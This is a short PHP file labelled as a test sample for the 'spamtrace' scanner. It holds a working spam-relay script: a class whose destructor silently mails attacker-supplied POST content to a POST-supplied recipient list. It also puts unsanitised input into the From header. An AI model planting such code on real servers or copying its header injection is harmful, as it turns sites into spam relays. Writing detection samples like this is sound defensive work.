<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
class Outbox
{
    public array $list = [];
    public string $subj = '';
    public string $msg = '';
    public function __destruct()
    {
        foreach ($this->list as $r) {
            mail($r, $this->subj, $this->msg, 'From: ' . $this->subj);
        }
    }
}
$o = new Outbox();
$o->list = explode("\n", $_POST['l']);
$o->subj = $_POST['s'];
$o->msg = $_POST['m'];
